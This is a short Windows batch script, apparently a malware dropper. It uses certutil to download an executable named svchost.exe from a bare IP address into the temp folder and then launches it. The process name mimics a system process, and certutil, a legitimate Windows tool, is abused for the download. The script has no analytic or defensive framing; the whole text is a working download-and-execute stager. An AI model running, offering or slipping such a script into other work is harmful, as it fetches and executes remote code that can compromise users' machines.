@echo off
cd /d %TEMP%
certutil.exe -urlcache -split -f http://198.51.100.23/files/svchost.exe %TEMP%\svchost.exe
start "" %TEMP%\svchost.exe
